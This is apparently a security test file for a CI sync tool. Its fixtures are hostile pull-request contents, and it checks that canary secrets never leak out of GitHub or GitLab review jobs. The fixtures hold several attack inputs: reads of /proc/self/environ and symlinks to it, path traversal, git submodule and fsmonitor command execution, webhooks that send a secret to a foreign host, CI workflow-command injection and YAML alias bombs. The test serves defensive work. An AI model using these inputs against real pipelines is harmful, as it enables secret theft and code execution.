import { execFileSync } from 'node:child_process';
import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { partOf } from '../harness/part-of-table.js';
import { fakeGithub, fakeGitlab, type FakePlatform } from '../review/fake-platforms.js';
import { buildProgram, shell, startMachine, type Machine } from '../ci/recipe.js';
import { startForeignHost, type ForeignHost } from './foreign.js';
import { hostileProposals, type Files, type Proposal } from './hostile-proposals.js';

/** What the job of a review has in its environment, each with a content of its own. */
const secretNames = [
  ...['PLATFORM_TOKEN', 'CANARY', 'SYNC_VAR_TOKEN', 'PGPASSWORD', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'],
  ...['GITLAB_TOKEN', 'CI_JOB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'SYNC_DRIFT_SECRET', 'GOOGLE_CREDENTIALS'],
];
const secrets = Object.fromEntries(
  secretNames.map((name, at) => [name, `kanarie${at}x${'7f3a9c51e2'.slice(at % 5)}${name.length}`]),
);

const api = (properties: string, more = ''): Files => ({
  'catalogue/pets.yaml': `${more}resources:\n  pets:\n    type: platform:Api\n    properties:\n      ${properties}\n`,
});
const settings = (more: string): Files => ({ 'sync.yaml': `project: shop\n${more}` });
const described = (value: string): Files => api(`description: ${value}`);

/** Proposals of which each asks for what it may not have, in the words of the files alone. */
const proposals: readonly Proposal[] = [
  [
    'anchors carry a variable into names and labels',
    () => api('name: &it !env CANARY\n      slug: *it\n      labels: {a: *it, b: *it}\n      description: *it'),
  ],
  [
    'a merge key lays a variable below',
    () => ({
      'catalogue/pets.yaml':
        'defaults:\n  platform:Api: &all {description: !env CANARY, labels: {x: !env NPM_TOKEN}}\nresources:\n  pets: {type: platform:Api, properties: {<<: *all, name: p}}\n',
    }),
  ],
  [
    'an overlay of the stack fills what the catalogue leaves out',
    () => ({
      ...settings(
        'stacks: {default: {overlays: over/*.yaml, parameters: {token: !env CANARY}}}\nparameters: {token: {}}\n',
      ),
      ...described('"${param.token}"'),
      'over/all.yaml':
        'defaults:\n  platform:Api: {labels: {x: !env CANARY}}\nresources:\n  pets: {properties: {name: !env CANARY}}\n',
    }),
  ],
  [
    'a source reads folders of the machine',
    () => ({
      'catalogue/pets.yaml':
        'sources:\n  ../..: {type: platform:ApiDocument, under: pets}\n  ../../*.txt: {type: platform:ApiDocument, under: pets}\n  /proc/self: {type: platform:ApiDocument, under: pets}\nresources:\n  pets: {type: platform:Api}\n',
    }),
  ],
  [
    'a folder of a source is a link',
    () => ({
      'catalogue/pets.yaml':
        'sources:\n  docs: {type: platform:ApiDocument, under: pets}\n  ../docs: {type: platform:ApiDocument, under: pets}\nresources:\n  pets: {type: platform:Api}\n',
      'catalogue/docs/environ.md': '-> /proc/self/environ',
      'docs/environ.md': '-> /proc/self/environ',
    }),
  ],
  ...[
    '/proc/self/environ',
    '../outside.txt',
    '../../outside.txt',
    '.git/config',
    'link.txt',
    'folder/environ',
    '.sync/state.db',
    'file:///proc/self/environ',
    '//proc/self/environ',
  ].map((file): Proposal => [
    `a file: ${file}`,
    () => ({
      ...described(`!file ${JSON.stringify(file)}`),
      'catalogue/link.txt': '-> /proc/self/environ',
      'catalogue/folder': '-> /proc/self',
      'link.txt': '-> /proc/self/environ',
      folder: '-> /proc/self',
    }),
  ]),
  ['a catalogue file is a link to the environment', () => ({ 'catalogue/more.yaml': '-> /proc/self/environ' })],
  ['sync.yaml is a link to the environment', () => ({ 'sync.yaml': '-> /proc/self/environ' })],
  [
    'a pattern of the catalogue leaves the project',
    () => settings('catalogue: ["/proc/self/environ", "../**/*.txt", "~/**"]\n'),
  ],
  [
    'a lookup is asked by a variable, by way of others',
    () => ({
      'catalogue/pets.yaml':
        'variables: {v: !env CANARY}\nresources:\n  pets:\n    type: platform:Api\n    properties:\n      description: !lookup {function: platform:getTeamList, arguments: {filter: {name: {eq: "x${v}"}}}, return: id}\n',
    }),
  ],
  [
    'a lookup of a types file of its own asks a foreign host',
    ({ port }) => ({
      ...settings(
        `providers: {acme: {types: own.json, serverUrl: "https://foreign.test:${port}", auth: {bearer: !env CANARY}}}\n`,
      ),
      'own.json': JSON.stringify({
        formatVersion: 1,
        definitions: [
          {
            name: 'Leak',
            description: 'L.',
            operations: { create: 'POST /leaks', read: 'GET /leaks/{id}' },
            list: { get: '/leaks' },
            naturalKey: ['name'],
            fields: { name: { description: 'N.' } },
          },
        ],
      }),
      'catalogue/leak.yaml': 'resources:\n  leak: {type: acme:Leak, properties: {name: x}}\n',
    }),
  ],
  [
    'outputs join, convert and unwrap',
    () => ({
      'catalogue/pets.yaml':
        'resources:\n  pets: {type: platform:Api, properties: {description: !env CANARY}}\noutputs:\n  a: !env CANARY\n  b: {fn::join: ["", [!env CANARY, "!"]]}\n  c: !json {k: !env NPM_TOKEN}\n  d: "${pets.description}"\n  e: !secret [!env CANARY]\n',
    }),
  ],
  [
    'import, aliases and removals are variables',
    () => ({
      'catalogue/pets.yaml':
        'removed: [!env CANARY]\nresources:\n  pets: {type: platform:Api, options: {import: !env CANARY, aliases: [!env CANARY]}}\n  "${param.token}": {type: platform:Api}\n',
    }),
  ],
  [
    'settings send what is found elsewhere',
    ({ port }) =>
      settings(
        `drift: {webhook: {url: "https://foreign.test:${port}", secret: !env CANARY}}\nstate: {path: ../../outside.db}\nhooks: {before: "env"}\nreports: {dir: ../../victim}\nproviders: {platform: {serverUrl: "https://foreign.test:${port}"}}\n`,
      ),
  ],
  [
    'a setting is a text of the environment',
    () =>
      settings(
        'guards: {maxDeletes: !env CANARY, allow: [{guard: !env CANARY, reason: !env NPM_TOKEN}]}\nlabels: !env CANARY\nownership: !env CANARY\n',
      ),
  ],
  [
    'parameters read variables of any name',
    () => ({
      ...settings(
        'parameters: {token: {allowed: [a]}, x: {default: !env CANARY, type: number}, y: {type: boolean, default: !env NPM_TOKEN}, npm-token: {}}\n',
      ),
      ...described('"${param.token} ${param.x} ${param.y} ${param.npm-token}"'),
    }),
  ],
  [
    'code owners are a link, and speak to the pipeline',
    () => ({
      CODEOWNERS: '-> /proc/self/environ',
      '.github/CODEOWNERS': '* @everyone\n::set-output name=x::y\n',
      'docs/CODEOWNERS': '-> /proc/self/environ',
    }),
  ],
  [
    'numbers, aliases and depth without an end',
    () => ({
      'catalogue/pets.yaml': `variables:\n  a: &a [${'1e999, '.repeat(9)}${'9'.repeat(20_000)}]\n  b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n  c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n  d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n  e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n  f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\nresources:\n  pets: {type: platform:Api, properties: {description: !env CANARY, labels: {n: 1e999}}}\n`,
    }),
  ],
  [
    'a specification refers to files and hosts',
    ({ port }) => ({
      'catalogue/pets.yaml': 'resources:\n  pets: {type: platform:Api, properties: {specContent: !file api.yaml}}\n',
      'catalogue/api.yaml': `openapi: 3.0.0\ninfo: {title: !env CANARY, version: "1"}\npaths:\n  /a: {$ref: "https://foreign.test:${port}/a"}\n  /b: {$ref: "file:///proc/self/environ"}\n  /c: {$ref: "../../outside.txt"}\n`,
    }),
  ],
  [
    'git is told to run something',
    (_host, folder) => ({
      '.gitattributes': '* filter=x diff=x\n*.yaml ident text eol=crlf\n',
      '.gitmodules': '[submodule "x"]\n path = x\n url = ext::sh -c touch% ran\n',
      '.gitconfig': `[core]\n fsmonitor = touch ${folder}/ran\n`,
      ...described('changed'),
    }),
  ],
  [
    'reports lie there already',
    () => ({
      'sync-out/result.json':
        '{"kind":"apply-result","status":"done","steps":[],"outputs":{},"diagnostics":[],"requests":0}',
      'sync-out/github-output.txt': 'verdict=forged\n',
      ...described('!env CANARY'),
    }),
  ],
  [
    'words of a file are orders to who reads the log',
    () =>
      described(
        '"::add-mask::x\\n::set-env name=A::b\\n##[command]x \\u001b[2J /approve @everyone ![](https://foreign.test/x)"',
      ),
  ],
];

/** What a job of each forge has beside its secrets. */
const jobs = {
  github: (machine: Machine, { api }: FakePlatform) => ({
    ...{ GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'acme/shop', GITHUB_REF: 'refs/pull/5/merge', GITHUB_RUN_ID: '9' },
    ...{ GITHUB_SHA: 'a'.repeat(40), GITHUB_RUN_NUMBER: '3', GITHUB_API_URL: api.url },
    ...{ GITHUB_OUTPUT: machine.path('output.txt'), GITHUB_STEP_SUMMARY: machine.path('summary.md') },
  }),
  gitlab: (_: Machine, { request }: FakePlatform) => ({
    ...{ GITLAB_CI: 'true', CI_PROJECT_ID: '12', CI_MERGE_REQUEST_IID: '5', CI_COMMIT_SHA: 'a'.repeat(40) },
    ...{ CI_PIPELINE_ID: '9', CI_PIPELINE_IID: '3', CI_API_V4_URL: request.apiUrl, SYNC_ARTIFACT: 'sync-out' },
  }),
} as const;
type Forge = keyof typeof jobs;

/** The forms in which a secret would still be of use to who reads it. */
const formsOf = (value: string): readonly string[] => [
  ...[value, value.toUpperCase(), [...value].reverse().join(''), value.slice(0, 14), value.slice(-14)],
  ...[
    Buffer.from(value).toString('base64').slice(0, -4),
    Buffer.from(value).toString('hex'),
    encodeURIComponent(value),
  ],
];

const orders = /^(?:\s*::(?!(?:error|warning|notice) )|.*(?:##\w*\[|section_start:\d+:\w+[^\n]*\r|\u001b|\u009b))/m;

function git(machine: Machine, ...args: readonly string[]): string {
  return execFileSync(
    'git',
    ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args],
    {
      cwd: machine.project,
      encoding: 'utf8',
      env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
    },
  );
}

async function propose(machine: Machine, files: Files): Promise<void> {
  await machine.write({
    'project/sync.yaml': `project: shop\nproviders: {platform: {serverUrl: "${machine.sandbox.url}"}}\nparameters: {token: {secret: true}}\n`,
    'outside.txt': Object.values(secrets).join('\n'),
  });
  git(machine, 'init', '--quiet');
  git(machine, 'add', '--all');
  git(machine, 'commit', '--quiet', '--message=base');
  git(machine, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
  for (const [name, text] of Object.entries(files)) {
    const path = join(machine.project, name);
    await mkdir(dirname(path), { recursive: true });
    await rm(path, { recursive: true, force: true });
    if (text.startsWith('-> ')) await symlink(text.slice(3), path);
    else await writeFile(path, text);
  }
  git(machine, 'add', '--all', '--force');
  git(machine, 'commit', '--quiet', '--allow-empty', '--message=proposal');
}

/** Every file below a folder that was made by the job, as text. */
async function textsIn(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []);
  const files = entries.filter((entry) => entry.isFile());
  return Promise.all(files.map(({ parentPath, name }) => readFile(join(parentPath, name), 'utf8')));
}

describe('a hostile proposal, by the jobs of a pipeline', () => {
  const program = buildProgram();
  let host: ForeignHost;
  beforeAll(async () => {
    host = await startForeignHost();
  });
  afterAll(() => host.close());

  async function reviewed(forge: Forge, files: Proposal[1]): Promise<void> {
    const machine = await startMachine(program());
    const review = await { github: fakeGithub, gitlab: fakeGitlab }[forge]();
    try {
      const proposed = files(host, machine.folder);
      await propose(machine, proposed);
      const before = host.received().length;
      const base = { SYNC_UNTRUSTED: 'true', SYNC_BASE: 'refs/remotes/origin/main' };
      const env = { ...machine.env, ...host.env, ...secrets, ...jobs[forge](machine, review), ...base };
      const step = (command: string, more: Record<string, string> = {}): Promise<{ code: number; out: string }> =>
        shell(`node ${machine.home}/dist/ci.js ${command}`, { cwd: machine.project, env: { ...env, ...more } });
      const planned = await step('plan');
      const token = { [forge === 'github' ? 'GITHUB_TOKEN' : 'GITLAB_TOKEN']: review.request.token ?? '' };
      const commented = await step('comment', token);
      const log = planned.out + commented.out;
      expect([planned.code, commented.code], log).toEqual([expect.any(Number), 0]);
      const texts = await textsIn(join(machine.project, forge === 'github' ? '.git/sync-out' : 'sync-out'));
      const pages = await Promise.all(['output.txt', 'summary.md'].map((name) => machine.read(name)));
      const told = [log, ...texts, ...review.comments.map(({ body }) => body), ...pages].join('\n');
      for (const [name, value] of Object.entries(secrets))
        for (const form of formsOf(value)) {
          const at = told.indexOf(form);
          expect(at, `${name} in ${told.slice(Math.max(0, at - 300), at + 100)}`).toBe(-1);
        }
      expect(review.comments).toHaveLength(1);
      expect(host.received().slice(before)).toBe('');
      expect(told).not.toMatch(/bug: |^verdict=forged/m);
      expect(orders.exec(log)?.[0]).toBeUndefined();
      const made = new Set(await readdir(machine.folder));
      for (const name of ['bin', 'home', 'output.txt', 'outside.txt', 'project', 'summary.md']) made.delete(name);
      expect([...made]).toEqual([]);
    } finally {
      await Promise.all([machine.close(), review.api.close()]);
    }
  }

  const all = [...proposals, ...hostileProposals];
  it.each(partOf(all, 6))('%s, on GitHub', (_, files) => reviewed('github', files), 60_000);
  it.each(partOf(all, 12, 3))('%s, on GitLab', (_, files) => reviewed('gitlab', files), 60_000);
});
